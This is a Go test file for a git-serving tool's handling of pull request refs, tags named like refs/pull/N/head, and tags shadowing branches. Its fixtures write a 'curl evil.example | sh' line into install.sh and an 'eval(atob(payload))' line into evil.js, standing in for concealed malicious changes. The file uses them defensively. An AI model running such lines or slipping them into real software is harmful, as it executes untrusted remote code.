package server

import (
	"strings"
	"testing"
)

// TestTagNamedLikePullRequestRefIsNoPullRequest: review 4, finding 02. A tag
// named "refs/pull/4/head" (a plain clone fetches it as
// refs/tags/refs/pull/4/head) was served as pull request #4, and a tag
// named "refs/pull/5/merge" chose the real pull request #5's base, hiding
// the file its first commit adds: git's revision rules take a missing full
// name for refs/tags/<name>. A pull request's refs are read exactly.
func TestTagNamedLikePullRequestRefIsNoPullRequest(t *testing.T) {
	r := repoWith(t, map[string]string{"app.txt": "v1\n"})
	// (a) a tag posing as pull request #4
	r.Git("checkout", "-qb", "fake")
	r.Write("install.sh", "curl evil.example | sh\n")
	r.Commit("tidy up")
	r.Git("tag", "refs/pull/4/head")
	r.Git("checkout", "-q", "main")
	// (b) a real pull request #5 of two commits, and a tag posing as its merge ref
	r.Git("checkout", "-qb", "topic")
	r.Write("evil.js", "eval(atob(payload))\n")
	c2 := r.Commit("add helper")
	r.Write("docs.md", "docs\n")
	r.Commit("docs")
	r.Git("update-ref", "refs/pull/5/head", "HEAD")
	tree := strings.TrimSpace(r.Git("rev-parse", c2+"^{tree}"))
	merge := strings.TrimSpace(r.Git("commit-tree", "-p", c2, "-p", "main", "-m", "Merge", tree))
	r.Git("tag", "refs/pull/5/merge", merge)
	r.Git("checkout", "-q", "main")
	h := serve(t, r, withTextOnly())

	if msg := h.fails("get_pull_request", prArgs(4), "NOT_FOUND"); !strings.Contains(msg, "does not exist") {
		t.Errorf("a tag named refs/pull/4/head: %q", msg)
	}
	files := h.ok("list_pull_request_files", prArgs(5))
	if !strings.Contains(files, "evil.js") || !strings.Contains(files, "docs.md") {
		t.Errorf("a tag named refs/pull/5/merge chose #5's base; its files:\n%s", files)
	}
	// The same rule for a caller's ref: refs/pull/4/head is no ref, so it
	// names nothing, whatever tag git would read in its place.
	msg := h.fails("read_file", map[string]any{"owner": "acme", "repo": "widgets", "path": "install.sh", "ref": "refs/pull/4/head"}, "INVALID_REF")
	if !strings.Contains(msg, "there is no ref refs/pull/4/head") || !strings.Contains(msg, "refs/tags/refs/pull/4/head") {
		t.Errorf("read_file ref=refs/pull/4/head: %q", msg)
	}
	// Once the real merge ref exists, it is the one read.
	r.Git("update-ref", "refs/pull/5/merge", merge)
	r.Git("tag", "-d", "refs/pull/5/merge")
	var out getPullRequestOut
	serve(t, r).structured("get_pull_request", prArgs(5), &out)
	if out.Base != strings.TrimSpace(r.Git("rev-parse", c2)) {
		t.Errorf("#5 with its real merge ref: base %s, want its first parent %s", out.Base, c2)
	}
}

// TestTagShadowingBranchIsNotedAsGitWarns: review 4, finding 03. With a tag
// and a branch both named main, base=main was the tag (git's rules) and
// the reply said nothing of the ambiguity git warns about: "0 files
// changed" for a branch that changes two files against the branch main.
// It is resolved as git resolves it, with git's warning as a note naming
// both refs and how to pick one.
func TestTagShadowingBranchIsNotedAsGitWarns(t *testing.T) {
	r := repoWith(t, map[string]string{"app.txt": "v1\n"})
	r.Git("checkout", "-qb", "feature")
	r.Write("evil.js", "eval(atob(x))\n")
	r.Write("app.txt", "v1\nmore\n")
	r.Commit("feature")
	r.Git("tag", "main", "feature")
	r.Git("checkout", "-q", "main")
	h := serve(t, r, withTextOnly())

	out := h.ok("get_diff", map[string]any{"owner": "acme", "repo": "widgets", "base": "main", "head": "feature", "mode": "direct"})
	for _, want := range []string{"refname main is ambiguous", "refs/tags/main", "refs/heads/main"} {
		if !strings.Contains(out, want) {
			t.Errorf("base=main with a tag main: no %q in\n%s", want, out)
		}
	}
	out = h.ok("get_diff", map[string]any{"owner": "acme", "repo": "widgets", "base": "refs/heads/main", "head": "feature", "mode": "direct"})
	if strings.Contains(out, "ambiguous") || !strings.Contains(out, "evil.js") {
		t.Errorf("base=refs/heads/main:\n%s", out)
	}
	if out := h.ok("list_files", map[string]any{"owner": "acme", "repo": "widgets", "ref": "feature"}); strings.Contains(out, "ambiguous") {
		t.Errorf("an unambiguous name got a note:\n%s", out)
	}
}

// TestMergeRequestRefAtATreeSaysSo: review 4, finding 13. GitLab's
// refs/merge-requests/7/head pointing at a tree was "pull request #7 does
// not exist ... neither ... nor refs/merge-requests/7/head", with a fetch
// command, though the ref exists (review 3 fixed refs/pull/N/head only).
func TestMergeRequestRefAtATreeSaysSo(t *testing.T) {
	r := repoWith(t, map[string]string{"a.txt": "a\n"})
	r.Git("remote", "add", "origin", "https://gitlab.example.com/acme/widgets.git")
	r.Git("update-ref", "refs/merge-requests/7/head", strings.TrimSpace(r.Git("rev-parse", "HEAD^{tree}")))
	h := serve(t, r, withTextOnly())
	msg := h.fails("get_pull_request", prArgs(7), "INVALID_REF")
	if !strings.Contains(msg, "refs/merge-requests/7/head points at a tree, not a commit") || strings.Contains(msg, "does not exist") {
		t.Errorf("a merge request ref at a tree: %q", msg)
	}
	// And a merge ref at a tree: refused with what it is, not taken for none.
	r.Git("update-ref", "refs/pull/8/head", "HEAD")
	r.Git("update-ref", "refs/pull/8/merge", strings.TrimSpace(r.Git("rev-parse", "HEAD^{tree}")))
	if msg := h.fails("get_pull_request", prArgs(8), "INVALID_REF"); !strings.Contains(msg, "refs/pull/8/merge points at a tree, not a commit") {
		t.Errorf("a merge ref at a tree: %q", msg)
	}
}
